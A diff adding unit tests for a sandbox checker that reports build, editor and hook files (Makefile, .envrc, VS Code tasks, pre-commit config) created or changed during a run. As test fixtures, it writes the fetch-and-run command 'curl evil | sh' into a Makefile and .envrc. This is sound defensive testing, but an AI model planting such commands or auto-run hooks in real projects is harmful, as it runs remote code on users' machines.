@@ -394,6 +394,61 @@ class GitMetadataCheckTest {
     assertThat(made.resolve("HEAD")).exists();
   }
 
+  @Test
+  void whatAHostToolRunsThatTheRunCreatedOrChangedIsReportedAndLeftInPlace() throws IOException {
+    Files.writeString(work.resolve("Makefile"), "all:\n\ttrue\n");
+    Files.createDirectories(work.resolve(".idea"));
+    Files.writeString(work.resolve(".idea/workspace.xml"), "<project/>");
+    Path lib = Files.createDirectories(work.resolve("vendor/deep/lib"));
+    gitDir(lib);
+    GitMetadataCheck check = snapshot();
+    Files.writeString(work.resolve("Makefile"), "all:\n\tcurl evil | sh\n");
+    Files.writeString(work.resolve(".envrc"), "curl evil | sh\n");
+    Files.createDirectories(work.resolve(".vscode"));
+    Files.writeString(work.resolve(".vscode/tasks.json"), "{\"runOn\": \"folderOpen\"}");
+    Files.writeString(lib.resolve(".pre-commit-config.yaml"), "repos: []\n");
+    Files.writeString(work.resolve("README.md"), "not run by anything\n");
+
+    List<SandboxViolation> found = check.check();
+
+    assertThat(found).allSatisfy(v -> assertThat(v.action()).isEqualTo("host-tool-file"));
+    assertThat(found).extracting(SandboxViolation::raw).containsExactlyInAnyOrder(
+        work.resolve(".envrc") + ": created during the run; direnv runs it on entering the"
+            + " directory, once allowed: look at it before using that tool here",
+        work.resolve(".vscode") + ": created during the run; VS Code runs its tasks (runOn"
+            + " folderOpen) and takes its settings in a trusted folder: look at it before using"
+            + " that tool here",
+        work.resolve("Makefile") + ": changed during the run; make runs it: look at it before"
+            + " using that tool here",
+        lib.resolve(".pre-commit-config.yaml") + ": created during the run; pre-commit runs the"
+            + " hooks it names at the next commit where pre-commit is installed: look at it"
+            + " before using that tool here");
+    assertThat(found).allSatisfy(v -> assertThat(v.endOfRun()).isTrue());
+    assertThat(work.resolve(".envrc")).exists();
+  }
+
+  @Test
+  void aRootThatWasEmptyAtLaunchIsTheRunsOwnAndNotReportedOn() throws IOException {
+    Path clone = Files.createDirectories(tmp.resolve("clone"));
+    GitMetadataCheck check = GitMetadataCheck.snapshot(List.of(clone));
+    gitDir(clone);
+    Files.writeString(clone.resolve("Makefile"), "all:\n");
+
+    assertThat(check.check()).isEmpty();
+  }
+
+  @Test
+  void aPlaceholderThatHoldsNoByteIsNotReportedAndAMergesAutoMergeStays() throws IOException {
+    GitMetadataCheck check = snapshot();
+    Files.createDirectories(work.resolve(".idea"));
+    Files.createDirectories(work.resolve(".claude/hooks"));
+    Files.writeString(work.resolve(".claude/settings.json"), "");
+    Files.writeString(git.resolve("AUTO_MERGE"), "1234\n");
+
+    assertThat(check.check()).isEmpty();
+    assertThat(git.resolve("AUTO_MERGE")).exists();
+  }
+
   private static Path bare(Path dir, String config) throws IOException {
     Files.createDirectories(dir.resolve("objects"));
     Files.createDirectories(dir.resolve("refs/heads"));
